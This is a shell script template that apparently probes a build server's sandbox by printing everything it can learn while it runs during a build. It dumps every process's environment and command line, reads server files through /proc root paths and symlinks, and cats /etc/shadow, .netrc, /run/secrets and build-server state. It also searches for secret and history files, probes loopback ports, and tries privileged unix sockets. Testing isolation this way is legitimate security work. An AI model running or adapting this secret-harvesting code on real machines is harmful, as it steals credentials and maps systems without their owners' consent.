#!/bin/sh
# Prints whatever it can learn of the machine that builds it. @PATHS@ are files of the
# server, @PORT@ its private side on loopback.
paths='@PATHS@'
exec 2>&1
echo "spying as $(id -u) in $(pwd)"
env
for file in $paths; do
    cat "$file" 2>/dev/null
    cat "/proc/1/root$file" 2>/dev/null
    cat "/proc/$PPID/root$file" 2>/dev/null
    ln -s "$file" stolen 2>/dev/null && cat stolen 2>/dev/null
    rm -f stolen
    ls -la "$(dirname "$file")" 2>/dev/null
done
tr '\0' '\n' </proc/1/environ
for process in /proc/[0-9]*; do
    tr '\0' '\n' <"$process/environ"
    tr '\0' '\n' <"$process/cmdline"
    ls -l "$process/fd" "$process/cwd" "$process/root/"
    cat "$process/mountinfo"
    head -n 3 "$process/maps"
done 2>/dev/null
cat link/notes link/state/notes 2>/dev/null
find / -xdev -name 'history.db*' -o -xdev -name '*secret*' -path '*run*' 2>/dev/null
mount; df 2>/dev/null
cat /run/credentials/* /run/secrets/* /var/lib/build-server/* /root/.netrc /etc/shadow 2>/dev/null
cat /dev/mem /dev/kmsg /proc/kcore /proc/kmsg 2>/dev/null | head -c 100
dmesg 2>/dev/null | tail -n 2
for port in @PORT@ 22 80 8000 8010; do
    timeout 2 bash -c "exec 3<>/dev/tcp/127.0.0.1/$port" 2>/dev/null && echo "REACHED $port"
done
python3 -c '
import socket
for name in ("", "\0/tmp/.X11-unix/X0", "/run/systemd/private", "/nix/var/nix/daemon-socket/socket"):
    try:
        socket.socket(socket.AF_UNIX).connect(name)
        print("CONNECTED", name)
    except OSError:
        pass
' 2>/dev/null
echo "seen all"
